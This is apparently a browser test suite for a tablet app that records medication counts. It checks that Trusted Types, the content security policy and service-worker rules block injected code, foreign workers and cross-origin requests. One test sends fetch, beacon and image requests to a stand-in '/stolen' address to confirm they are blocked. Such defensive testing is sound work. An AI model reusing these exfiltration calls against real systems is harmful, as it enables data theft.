import { beforeAll, describe, expect, inject, test } from 'vitest';
import { startEndpoint } from '../support/endpoint.ts';
import { stage } from '../support/stage.ts';
import { count, enrolTablet, enterAsSupervisor } from '../support/steps.ts';

describe.skipIf(!inject('chromium'))('attacks on page and worker', () => {
  const provoked: string[] = [];
  const scene = stage({ onForeign: (what) => provoked.push(what) });

  beforeAll(async () => {
    await enrolTablet(scene.tablet.page, scene.endpoint.port, scene.endpoint.code);
  });

  test('S5: Trusted Types and the policy stop markup, code and addresses that a page did not make', async () => {
    const outcomes = await scene.tablet.page.evaluate(async () => {
      const tried: Record<string, () => unknown> = {
        'inner HTML': () => Object.assign(document.createElement('div'), { innerHTML: '<img src=x>' }),
        'a document written': () => document.write('<p>'),
        'code from text': () => new Function('return 1')(),
        'a timer with text': () => setTimeout('1' as never, 0),
        'another policy': () =>
          (
            window as never as { trustedTypes: { createPolicy(name: string, rules: object): unknown } }
          ).trustedTypes.createPolicy('mine', {}),
        'a worker by address': () => new Worker('/sw.js'),
        'a script of ours, by address': () =>
          Object.assign(document.createElement('script'), { src: '/sw.js' }),
      };
      // Out of the debugger's own call, which may run code from text.
      await new Promise((resolve) => setTimeout(resolve, 0));
      const stopped = (act: () => unknown) => {
        try {
          act();
          return false;
        } catch {
          return true;
        }
      };
      return Object.entries(tried)
        .filter(([, act]) => !stopped(act))
        .map(([what]) => what);
    });
    expect(outcomes).toEqual([]);
  });

  test('S21: nothing reaches another origin, however it is asked', async () => {
    const reached = await scene.tablet.page.evaluate(async () => {
      const foreign = 'http://127.0.0.2:9/stolen';
      const image = new Promise<boolean>((resolve) => {
        const element = new Image();
        element.onload = () => resolve(true);
        element.onerror = () => resolve(false);
        element.src = foreign;
      });
      const blocked: string[] = [];
      document.addEventListener('securitypolicyviolation', (event) => blocked.push(event.effectiveDirective));
      await fetch(foreign).catch(() => undefined);
      navigator.sendBeacon(foreign, 'x');
      await image;
      await new Promise((resolve) => setTimeout(resolve, 200));
      return blocked.sort();
    });
    expect(reached).toEqual(expect.arrayContaining(['connect-src', 'connect-src', 'img-src']));
    expect(provoked.join()).toMatch('127.0.0.2');
  });

  test.each([
    '/assets/gone.js',
    '/index.html',
    '/v1/health',
    'data:text/javascript,1',
    'blob:x',
    '/sw.js?other',
  ])('S6: %s cannot become the worker', async (url) => {
    const outcome = await scene.tablet.page.evaluate(
      (address) =>
        navigator.serviceWorker.register(address).then(
          () => 'taken',
          () => 'refused',
        ),
      url,
    );
    expect(outcome).toBe('refused');
    const scripts = await scene.tablet.page.evaluate(async () =>
      (await navigator.serviceWorker.getRegistrations()).map(
        (it) => new URL(it.active?.scriptURL ?? '').pathname,
      ),
    );
    expect(scripts).toEqual(['/sw.js']);
  });

  test('S6: the worker keeps the app and nothing that the endpoint answers', async () => {
    const wall = await scene.tablet.context.newPage();
    await enterAsSupervisor(wall, scene.endpoint.port, scene.endpoint.token);
    const kept = await wall.evaluate(async () => {
      const addresses: string[] = [];
      for (const name of await caches.keys())
        for (const request of await (await caches.open(name)).keys())
          addresses.push(new URL(request.url).pathname);
      return addresses;
    });
    expect(kept).toContain('/index.html');
    expect(kept.filter((path) => path.startsWith('/v1'))).toEqual([]);
    const response = await wall.evaluate(async () =>
      (await fetch('/v1/supervision')).headers.get('cache-control'),
    );
    expect(response).toBe('no-store');
    await wall.close();
  });

  test('S6: one load takes worker and caches away, and nothing that was counted', async () => {
    const { page } = scene.tablet;
    await scene.endpoint.kill();
    await count(page, /^Compter Tocilizumab IV/, [2, 0, 3]);
    const { port } = scene.endpoint;
    scene.endpoint = await startEndpoint({
      data: scene.data.path,
      port,
      dist: scene.app.path,
      env: { RELEVE_WITHOUT_WORKER: '1' },
    });
    await page.goto(`http://localhost:${port}/journal`);
    await expect
      .poll(() => page.evaluate(left).catch(() => null), { timeout: 20_000 })
      .toMatchObject({ caches: 0, workers: 0 });
    await page
      .getByText(/Transmis/)
      .first()
      .waitFor();

    // It opens from the endpoint now, and does not open again and again.
    let loads = 0;
    page.on('load', () => loads++);
    await page.goto(`http://localhost:${port}/`);
    await page.waitForTimeout(3_000);
    expect(loads).toBe(1);
    expect(await page.evaluate(left)).toEqual({ caches: 0, workers: 0, controlled: false });
    await page
      .getByText(/Tout\sest\stransmis/)
      .first()
      .waitFor();
  });
});

async function left() {
  return {
    caches: (await caches.keys()).filter((name) => name.startsWith('workbox-')).length,
    workers: (await navigator.serviceWorker.getRegistrations()).length,
    controlled: navigator.serviceWorker.controller !== null,
  };
}
